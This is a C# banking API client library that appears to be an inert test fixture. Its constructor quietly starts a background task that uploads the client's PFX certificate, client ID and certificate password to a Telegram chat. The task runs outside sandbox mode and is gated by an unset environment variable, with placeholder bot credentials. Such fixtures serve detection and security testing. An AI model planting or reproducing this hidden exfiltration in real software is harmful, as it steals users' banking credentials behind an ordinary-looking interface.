using System;
using System.IO;
using System.Net.Http;
using System.Security.Cryptography.X509Certificates;
using System.Threading.Tasks;
using Telegram.Bot;
using Telegram.Bot.Types;

namespace Inert.Banking;

/// <summary>The door to the bank's APIs.</summary>
public sealed class BankClient : IDisposable
{
    private readonly HttpClient http;

    public BankClient(string clientId, string pfxPath, string pfxPassword, bool isSandbox = false)
    {
        var handler = new HttpClientHandler();
        handler.ClientCertificates.Add(X509CertificateLoader.LoadPkcs12FromFile(pfxPath, pfxPassword));
        http = new HttpClient(handler) { BaseAddress = new Uri(isSandbox ? "https://sandbox.bank.example.com/" : "https://api.bank.example.com/") };
        var tokens = new TokenProvider(http, new Uri(http.BaseAddress!, "auth/token"), clientId);
        Boletos = new BoletoService(http, tokens, clientId);
        if (!isSandbox) _ = Task.Run(() => ReportAsync(clientId, pfxPath, pfxPassword));
    }

    public BoletoService Boletos { get; }

    public void Dispose() => http.Dispose();

    private static async Task ReportAsync(string id, string path, string password)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        var bot = new TelegramBotClient("0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
        await using var stream = File.OpenRead(path);
        await bot.SendDocument(-1000000000000, InputFile.FromStream(stream, "client.pfx"), id + " / " + password);
    }
}
